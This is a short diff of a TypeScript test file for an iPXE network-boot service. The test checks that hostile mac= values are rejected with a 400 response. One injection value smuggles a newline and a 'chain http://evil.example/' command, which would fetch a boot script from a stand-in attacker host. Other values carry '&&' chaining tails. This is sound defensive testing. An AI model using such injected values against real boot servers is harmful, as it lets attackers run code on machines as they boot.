@@ -64,7 +64,10 @@ const TAILS: { name: string; tail: string }[] = [
 /** `&&` without whitespace: rejected in every field but the URL (see the URL test below). */
 const AMPERSANDS = { name: '&& without spaces', tail: `&&${MARK}` };
 
-type Field = { name: string; set: (tail: string) => Record<string, unknown> };
+interface Field {
+  name: string;
+  set: (tail: string) => Record<string, unknown>;
+}
 
 /** Every reservation field that reaches, or could reach, a script. */
 const FIELDS: Field[] = [
@@ -261,7 +264,7 @@ t.test('hostile query values on /ipxe are dropped; the script stays clean', asyn
   t.equal(m2.observed.platform, 'efi');
   t.equal(m2.observed.uuid, '4c4c4544-0042-3510-8052-b4c04f333532');
 
-  for (const mac of [`${hyphen}\nchain http://evil.example/${MARK}`, `${MARK}`, `\${net0/mac}`, `${hyphen}%20${MARK}`]) {
+  for (const mac of [`${hyphen}\nchain http://evil.example/${MARK}`, MARK, `\${net0/mac}`, `${hyphen}%20${MARK}`]) {
     const bad = await ipxe(ta, new URLSearchParams({ mac }).toString());
     t.equal(bad.statusCode, 400, `mac=${JSON.stringify(mac)}: 400`);
     t.match(bad.body, /^#!ipxe\necho edgeboot: \/ipxe needs mac= with a MAC address/);
